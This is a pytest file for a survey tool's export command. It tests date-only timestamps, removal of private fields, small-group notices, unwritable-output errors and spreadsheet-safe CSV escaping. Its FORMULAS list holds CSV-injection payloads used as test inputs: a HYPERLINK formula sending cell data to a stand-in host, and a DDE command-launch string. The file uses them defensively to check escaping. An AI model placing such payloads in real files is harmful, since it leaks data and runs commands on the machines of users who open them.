"""What an export may carry: dates not times, no per-question seconds, cells no spreadsheet
runs, a note on small groups, and clear errors for an output that cannot be written.
Real store files, the real CLI (click's CliRunner)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from survey_tui.cli import main
from survey_tui.core.loader import load
from survey_tui.core.store import ResponseStore
from survey_tui.core.store.common import new_record

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "data_exchange"
HOSTILE = FIXTURES / "hostile.yaml"

# Strings a respondent can type that a spreadsheet would run, or that break a CSV row.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
]
BREAKERS = ["one\rtwo", "one\ntwo", "one\r\ntwo", 'say "hi", twice; ok', "a;=1+1, b"]


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, result.stdout, result.stderr


def record(n: int, group: str = "executive", **fields: Any) -> dict[str, Any]:
    """A complete response to hostile.yaml; ``fields`` override the record's own."""
    answers = {"rating": 1 + n % 5, "trend": "-1", "tool": "copilot", "delta": -2}
    base = new_record(
        load(HOSTILE),
        response_id=f"00000000-0000-4000-8000-{n:012d}",
        group=group,
        wave="default",
        status="complete",
        mode="run",
        started_at=f"2026-11-24T10:{n % 60:02d}:03Z",
        updated_at=f"2026-11-24T10:{n % 60:02d}:15Z",
        submitted_at=f"2026-11-24T10:{n % 60:02d}:15Z",
        answers=answers,
        seconds={"rating": 12, "tool": 40},
    )
    return {**base, **fields}


def store_with(tmp_path: Path, records: list[dict[str, Any]]) -> str:
    db = tmp_path / "r.json"
    ResponseStore(db).insert_many(records)
    return str(db)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- 1. timestamps ------------------------------------------------------------------------
def test_exports_carry_the_day_not_the_time_and_never_per_question_seconds(
    tmp_path: Path,
) -> None:
    taken = record(1, owner={"host": "laptop-of-ann", "pid": 4242}, resume_key="ab12cd34ef56ab78")
    db = store_with(tmp_path, [taken])
    code, out, err = run("--db", db, "export", str(HOSTILE))
    assert code == 0, err
    assert rows(out)[0]["submitted_at"] == "2026-11-24"
    assert "10:01" not in out

    out_json = tmp_path / "o.json"
    assert run("--db", db, "export", str(HOSTILE), "--format", "json", "-o", str(out_json))[0] == 0
    [exported] = json.loads(out_json.read_text())
    assert exported["started_at"] == exported["submitted_at"] == "2026-11-24"
    assert exported["updated_at"] == "2026-11-24"
    for private in ("seconds", "owner", "resume_key"):
        assert private not in exported
    assert "laptop-of-ann" not in out_json.read_text()
    assert exported["answers"] == taken["answers"]

    code, out, _ = run("--db", db, "export", str(HOSTILE), "--exact-times")
    assert rows(out)[0]["submitted_at"] == "2026-11-24T10:01:15Z"
    assert (
        run(
            "--db",
            db,
            "export",
            str(HOSTILE),
            "--exact-times",
            "--format",
            "json",
            "-o",
            str(out_json),
        )[0]
        == 0
    )
    [exact] = json.loads(out_json.read_text())
    assert exact["started_at"] == "2026-11-24T10:01:03Z" and "seconds" not in exact


def test_rows_of_one_day_are_not_in_submission_order(tmp_path: Path) -> None:
    # Sorted by time within a day, the row order alone would say who answered first.
    late = record(1, submitted_at="2026-11-24T17:59:00Z", response_id="00000000-aaaa")
    early = record(2, submitted_at="2026-11-24T08:00:00Z", response_id="00000000-bbbb")
    db = store_with(tmp_path, [early, late])
    ids = [r["response_id"] for r in rows(run("--db", db, "export", str(HOSTILE))[1])]
    assert ids == ["00000000-aaaa", "00000000-bbbb"]
    exact = run("--db", db, "export", str(HOSTILE), "--exact-times")[1]
    assert [r["response_id"] for r in rows(exact)] == ["00000000-bbbb", "00000000-aaaa"]


# --- 2. export keeps every row, and says so ----------------------------------------------
def test_export_keeps_small_groups_and_says_so_on_stderr(tmp_path: Path) -> None:
    records = [record(n) for n in range(5)] + [record(10 + n, "frontline") for n in range(2)]
    db = store_with(tmp_path, records)
    code, out, err = run("--db", db, "export", str(HOSTILE))
    assert code == 0
    assert len(rows(out)) == 7  # the raw data: nothing withheld
    notes = [line for line in err.splitlines() if "min_group_size" in line]
    assert len(notes) == 1 and "frontline (2)" in notes[0] and "executive" not in notes[0]

    (tmp_path / "big").mkdir()
    enough = store_with(tmp_path / "big", [record(n) for n in range(5)])
    assert "min_group_size" not in run("--db", enough, "export", str(HOSTILE))[2]
    assert "raw data" in run("export", "--help")[1]


# --- 3. spreadsheet safety and CR/LF ------------------------------------------------------
def hostile_records() -> list[dict[str, Any]]:
    out = []
    for n, text in enumerate(FORMULAS + BREAKERS):
        answers = {
            "rating": 3,
            "trend": ["-1", "0", "+1"][n % 3],
            "tool": text,  # the "Other" text of a single choice
            # import trims each value of a multi choice, as the TUI does when it is typed
            "uses": [text.replace(";", ",").strip(), "tests"],
            "delta": -2,
            "comment": text,
        }
        out.append(record(n, answers=answers, wave="@wave" if n % 2 else "default"))
    return out


def test_hostile_text_is_never_a_formula_and_round_trips_exactly(tmp_path: Path) -> None:
    originals = hostile_records()
    db = store_with(tmp_path, originals)
    first = tmp_path / "first.csv"
    assert run("--db", db, "export", str(HOSTILE), "-o", str(first))[0] == 0
    table = rows(first.read_bytes().decode("utf-8"))
    assert len(table) == len(originals)  # a lone \r no longer splits a row
    for row in table:
        for column in ("tool", "uses", "comment", "trend", "wave", "response_id", "group"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)
        assert row["delta"] == "-2" and row["rating"] == "3"  # numbers are never escaped
    assert table[0]["comment"] == "'" + FORMULAS[0] and table[6]["tool"] == "''quoted already"
    assert {r["trend"] for r in table} == {"'-1", "0", "'+1"}  # an option value is text

    db2 = str(tmp_path / "again.json")
    code, _, err = run("--db", db2, "import", str(HOSTILE), str(first))
    assert code == 0, err
    again = {r["response_id"]: r for r in ResponseStore(db2).responses("hostile-cells")}
    for original in originals:
        assert again[original["response_id"]]["answers"] == original["answers"]
        assert again[original["response_id"]]["wave"] == original["wave"]
    second = tmp_path / "second.csv"
    assert run("--db", db2, "export", str(HOSTILE), "-o", str(second))[0] == 0
    assert second.read_bytes() == first.read_bytes()


# --- 4. an output that cannot be written --------------------------------------------------
def unwritable(tmp_path: Path, kind: str) -> Path:
    if kind == "folder":
        return tmp_path
    if kind == "below a file":
        (tmp_path / "plain.txt").write_text("x")
        return tmp_path / "plain.txt" / "out.csv"
    if kind == "read-only":
        # /sys refuses new files even to root (tests here may run as root: chmod is no bar).
        if not Path("/sys").is_dir():
            pytest.skip("no read-only /sys on this system")
        return Path("/sys/survey-tui-export.csv")
    if kind == "name too long":  # its new folder is made, then the file fails
        return tmp_path / "new" / ("x" * 300 + ".csv")
    return tmp_path / "r.json"  # the store itself


@pytest.mark.parametrize("kind", ["folder", "below a file", "read-only", "name too long", "store"])
def test_an_unwritable_output_is_a_clear_error_and_nothing_is_written(
    tmp_path: Path, kind: str
) -> None:
    db = store_with(tmp_path, [record(1)])
    target = unwritable(tmp_path, kind)
    # The store's lock file goes at the end of the command (nobody else uses the store).
    before = sorted(p.name for p in tmp_path.iterdir() if p.suffix != ".lock")
    store_bytes = Path(db).read_bytes()
    code, out, err = run("--db", db, "export", str(HOSTILE), "-o", str(target))
    assert code == 2
    assert err.startswith(f"{target}: "), err
    assert "Traceback" not in err and out == ""
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert Path(db).read_bytes() == store_bytes
    if kind == "read-only":
        assert not target.exists()
